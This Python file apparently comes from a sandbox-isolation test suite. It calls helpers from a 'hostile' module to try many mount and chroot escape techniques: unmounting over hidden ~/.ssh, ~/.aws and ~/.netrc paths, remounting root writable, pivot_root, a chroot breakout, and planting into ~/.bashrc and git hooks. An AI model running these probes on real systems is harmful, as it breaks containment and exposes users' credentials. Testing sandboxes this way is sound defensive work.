"""Taking the mounts apart, or looking behind them."""
import os
import struct

from hostile import HOME, SCRATCH, WORK, attempt, both, call, main, plant, steal

RDONLY, REMOUNT, BIND, MOVE, REC, PRIVATE = 1, 32, 4096, 8192, 16384, 1 << 18
DETACH = 2
AT_FDCWD = -100


def uncover_hidden_places():
    for path in (f"{HOME}/.ssh", f"{HOME}/.aws", f"{HOME}/.netrc", f"{WORK}/server.pem", HOME, "/tmp", "/proc"):
        attempt(call, "umount2", path, DETACH)
    both()


def remount_the_root_writable():
    for path in ("/", HOME, f"{HOME}/.bashrc", f"{WORK}/.git/hooks", "/etc"):
        attempt(call, "mount", None, path, None, REMOUNT | BIND, None)
    plant()


def bind_home_elsewhere():
    os.makedirs(f"{SCRATCH}/m", exist_ok=True)
    for flags in (BIND, BIND | REC, MOVE):
        attempt(call, "mount", HOME, f"{SCRATCH}/m", None, flags, None)
    both(f"{SCRATCH}/m")


def make_mounts_shared():
    attempt(call, "mount", None, "/", None, REC | (1 << 20), None)
    attempt(call, "mount", None, "/", None, REC | PRIVATE, None)
    both()


def mount_fresh_file_systems():
    os.makedirs(f"{SCRATCH}/m", exist_ok=True)
    for kind in ("proc", "sysfs", "devtmpfs", "tmpfs", "cgroup2", "debugfs", "tracefs", "bpf", "overlay", "ext4"):
        attempt(call, "mount", "none", f"{SCRATCH}/m", kind, 0, f"lowerdir={HOME},upperdir={SCRATCH},workdir={SCRATCH}")
    both(f"{SCRATCH}/m")


def clone_the_tree_by_descriptor():
    fd = attempt(call, "open_tree", AT_FDCWD, HOME, 1 | 0x8000)
    if fd is not None:
        steal(f"/proc/self/fd/{fd}")
        attempt(call, "move_mount", fd, "", AT_FDCWD, SCRATCH, 4)


def mount_through_descriptors():
    fd = attempt(call, "fsopen", "tmpfs", 0)
    attempt(call, "fsconfig", fd or 9, 6, None, None, 0)
    mount = attempt(call, "fsmount", fd or 9, 0, 0)
    attempt(call, "move_mount", mount or 9, "", AT_FDCWD, f"{HOME}/.ssh", 4)
    attempt(call, "fspick", AT_FDCWD, "/", 0)
    both()


def clear_the_read_only_attribute():
    attributes = struct.pack("QQQQ", 0, 1, 0, 0)
    for path in ("/", f"{HOME}/.bashrc", f"{WORK}/.git/hooks"):
        attempt(call, "mount_setattr", AT_FDCWD, path, 0x8000, attributes, len(attributes))
    plant()


def pivot_the_root():
    os.makedirs(f"{SCRATCH}/old", exist_ok=True)
    attempt(call, "pivot_root", SCRATCH, f"{SCRATCH}/old")
    attempt(call, "pivot_root", ".", ".")
    both("/old")
    both("/oldroot")
    both("/newroot")


def walk_out_of_a_changed_root():
    os.makedirs(f"{SCRATCH}/jail", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    attempt(os.chroot, f"{SCRATCH}/jail")
    attempt(os.fchdir, top)
    for _ in range(40):
        os.chdir("..")
    attempt(os.chroot, ".")
    both()


def climb_over_every_mount():
    inner = os.open(SCRATCH, os.O_RDONLY)
    up = "../" * 60
    for prefix in (up.rstrip("/"), f"/proc/self/fd/{inner}/{up}".rstrip("/"), f"{SCRATCH}/{up}".rstrip("/")):
        both(prefix)


def use_the_mount_helpers():
    for argv in (
        ["mount", "--bind", HOME, SCRATCH],
        ["mount", "-o", "remount,rw", "/"],
        ["umount", f"{HOME}/.ssh"],
        ["fusermount3", "-u", f"{HOME}/.ssh"],
        ["fusermount", "-u", f"{HOME}/.ssh"],
        ["losetup", "-f"],
    ):
        attempt(os.spawnvp, os.P_WAIT, argv[0], argv)
    both()


if __name__ == "__main__":
    main(globals())
